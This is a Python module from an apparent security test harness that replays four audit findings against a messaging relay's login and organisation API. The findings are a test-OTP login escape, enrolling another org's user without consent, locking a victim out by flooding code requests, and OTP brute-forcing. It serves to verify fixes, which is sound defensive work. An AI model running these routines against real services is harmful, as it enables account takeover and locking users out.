"""Attacks on organisations and logins (issue 13 F-1 to F-4): each tries what the finding
did against the reference relay before the fix, only through the public API."""

from __future__ import annotations

import base64
import itertools
import secrets

from semafore.protocol import frame as drv1
from simulator.attacks.base import Arena, AttackError, Outcome, Request
from simulator.attacks.wire import Answer, Session, Wire


def junk_drv1(size: int) -> str:
    """A body that passes the relay's magic and length check (F-13) and is no DR_V1 frame
    anyone can open: what an attacker queues without bothering to encrypt (base64)."""
    body = drv1.MAGIC + secrets.token_bytes(max(size, drv1.MIN_LENGTH) - len(drv1.MAGIC))
    return base64.b64encode(body).decode()


def _victim(arena: Arena, request: Request) -> tuple[str, str]:
    assert request.victim is not None  # the loader requires it (AttackSpec.needs_victim)
    return request.victim, arena.org_of[request.victim]


def _non_test_victim(arena: Arena, request: Request) -> tuple[str, str]:
    victim, org = _victim(arena, request)
    if org in arena.test_orgs:
        raise AttackError("victim", f"{victim}'s org {org!r} is a test org: the test OTP is "
                          "meant to work there, so this attack proves nothing")
    return victim, org


async def _read_as(wire: Wire, out: Outcome, session: Session, label: str) -> None:
    """What a session of the victim yields: their queue and their device list."""
    queue = await wire.call("GET", "/v1/messages?limit=100", token=session.access_token)
    out.answer(f"{label} read queue", queue.status, queue.code)
    if queue.ok:
        out.gained(f"{label}: read the victim's queue ({len(queue.body['envelopes'])} "
                   "envelope(s))")
    devices = await wire.call("GET", "/v1/devices", token=session.access_token)
    out.answer(f"{label} list devices", devices.status, devices.code)


async def test_otp_escape(arena: Arena, request: Request) -> Outcome:
    """F-1: sign up the unclaimed allow-listed test org, add a real org's user to it, and
    log in as that user with the fixed test OTP (in the test org, then in the user's own)."""
    victim, victim_org = _non_test_victim(arena, request)
    test_org = request.text("test_org")
    out = Outcome()
    async with Wire(arena, arena.attacker_address) as wire:
        admin = f"{test_org}-boss-{arena.tag}"
        signed = await wire.call("POST", "/v1/orgs", json={
            "org_id": test_org, "name": test_org, "admin_user_id": admin})
        out.answer("sign up the test org", signed.status, signed.code)
        if signed.ok:
            answer, boss = await wire.login(test_org, admin, "console", otp=arena.test_otp,
                                            totp_secret=str(signed.body["totp_secret"]))
            out.answer("test OTP login as the test org's admin", answer.status, answer.code)
            if boss is not None:
                added = await wire.call("PUT", f"/v1/orgs/{test_org}/members/{victim}",
                                        token=boss.access_token, json={"role": "member"})
                out.answer("add the victim to the test org", added.status, added.code)
                if added.ok and added.body.get("status") == "member":
                    out.gained(f"{victim} made a member of the test org without consent")
        else:
            out.notes.append(f"the test org {test_org!r} was already claimed: trying the "
                             "logins alone")
        for org in (test_org, victim_org):
            answer, session = await wire.login(org, victim, f"intruder-{arena.tag}",
                                               otp=arena.test_otp)
            out.answer(f"test OTP login as {victim}@{org}", answer.status, answer.code)
            if session is not None:
                out.gained(f"a session as {victim} in {org} with the test OTP")
                await _read_as(wire, out, session, f"as {victim}@{org}")
    return out


async def cross_org_enrolment(arena: Arena, request: Request) -> Outcome:
    """F-2: as the admin of an org of one's own, add another org's user, then list, drain
    and message them from that org."""
    victim, _ = _victim(arena, request)
    out = Outcome()
    async with Wire(arena, arena.attacker_address) as wire:
        org_id, _, boss = await wire.own_org("rival")
        out.attempts += 1
        token = boss.access_token
        added = await wire.call("PUT", f"/v1/orgs/{org_id}/members/{victim}", token=token,
                                json={"role": "member"})
        out.answer("add the victim", added.status, added.code)
        if added.ok and added.body.get("status") == "member":
            out.gained(f"{victim} made a member of {org_id} without consent")
        members = await wire.call("GET", f"/v1/orgs/{org_id}/members", token=token)
        out.answer("list members", members.status, members.code)
        if members.ok and any(m["user_id"] == victim and m.get("joined_at") is not None
                              for m in members.body["members"]):
            out.gained(f"{victim} listed as a member of {org_id}")
        bundles = await wire.call("GET", f"/v1/keys/{victim}", token=token)
        out.answer("claim the victim's prekey bundles", bundles.status, bundles.code)
        if bundles.ok:
            devices = bundles.body["devices"]
            opks = sum(1 for d in devices if d.get("opk"))
            out.gained(f"claimed {opks} one-time prekey(s) of {len(devices)} device(s)")
            envelopes = [{"device_id": d["device_id"], "registration_id": d["registration_id"],
                          "body": junk_drv1(64)} for d in devices]
            sent = await wire.call("PUT", f"/v1/messages/{victim}", token=token, json={
                "message_id": f"rival-{arena.tag}", "envelopes": envelopes})
            out.answer("queue a message to the victim", sent.status, sent.code)
            if sent.ok:
                out.gained(f"queued a message to {victim} from {org_id}")
    return out


async def _legit_login(arena: Arena, victim: str, org: str, out: Outcome, check: str,
                       code: str | None = None) -> Answer:
    """The victim logs in from the legitimate address on one of their own devices."""
    device = arena.devices_of[victim][0]
    async with Wire(arena, arena.legit_address) as wire:
        answer, session = await wire.login(org, victim, device, otp=code)
    out.legit[check] = session is not None
    if session is None:
        out.notes.append(f"{check}: {answer.status} {answer.code}")
    return answer


async def stranger_lockout(arena: Arena, request: Request) -> Outcome:
    """F-3: from another address, name the victim in login-code requests (for an org that
    does not exist and for the victim's own) and wrong guesses, then see whether the victim
    can still log in with the code they asked for before."""
    victim, org = _victim(arena, request)
    out = Outcome()
    pending: str | None = None
    if org not in arena.test_orgs:  # the victim asks for a code first: it must survive
        async with Wire(arena, arena.legit_address) as legit:
            pending = await legit.code_for(org, victim)
    ghost = f"{request.text('ghost_org')}-{arena.tag}"
    async with Wire(arena, arena.attacker_address) as wire:
        for i in range(request.count("requests")):
            if i % 3 == 0:
                answer = await wire.request_code(ghost, victim)
                out.answer("code request naming the victim in a made-up org", answer.status,
                           answer.code)
            elif i % 3 == 1:
                answer = await wire.request_code(org, victim)
                out.answer("code request naming the victim", answer.status, answer.code)
            else:
                answer, session = await wire.login(org, victim, f"stranger-{arena.tag}",
                                                   otp=f"{(i * 7919) % 10**6:06d}")
                out.answer("wrong guess for the victim", answer.status, answer.code)
                if session is not None:
                    out.gained(f"a session as {victim} from a guess")
    if not any(" 429 " in k for k in out.answers):
        out.undecided = ("the relay never throttled the stranger: the flood was too small to "
                         "lock anyone out (send more requests)")
    answer = await _legit_login(arena, victim, org, out, "the victim logs in after the flood",
                                pending if pending is not None else arena.test_otp)
    if not answer.ok:
        out.gained(f"{victim} locked out of their own login: {answer.status} {answer.code}")
    return out


async def otp_guessing(arena: Arena, request: Request) -> Outcome:
    """F-4: ask for the victim's login code and guess. The relay's OTP sink stands in for
    luck: after the wrong guesses the attacker tries the right code, which logs in only if
    the wrong guesses did not kill it (a relay without a guess limit lets every code be
    tried until it expires)."""
    victim, org = _non_test_victim(arena, request)
    if arena.otp_sink is None:
        raise AttackError("otp_sink", "otp_guessing reads the right code from the relay's "
                          "OTP sink (--relay-otp-sink DIR)")
    out = Outcome()
    async with Wire(arena, arena.attacker_address) as wire:
        real = await wire.code_for(org, victim)  # asked at the attacker's address
        out.attempts += 1
        wrong = (f"{(int(real) + k * 104729) % 10**6:06d}" for k in range(1, 10**6))
        for guess in itertools.islice(wrong, request.count("guesses")):  # distinct, none right
            answer, session = await wire.login(org, victim, f"guesser-{arena.tag}", otp=guess)
            out.answer("wrong guess", answer.status, answer.code)
        answer, session = await wire.login(org, victim, f"guesser-{arena.tag}", otp=real)
        out.answer("the right code after the wrong guesses", answer.status, answer.code)
        if session is not None:
            out.gained(f"a session as {victim} with a code that survived "
                       f"{request.count('guesses')} wrong guesses")
    if org not in arena.test_orgs:
        async with Wire(arena, arena.legit_address) as legit:
            code = await legit.code_for(org, victim)
        await _legit_login(arena, victim, org, out, "the victim logs in after the guessing",
                           code)
    return out
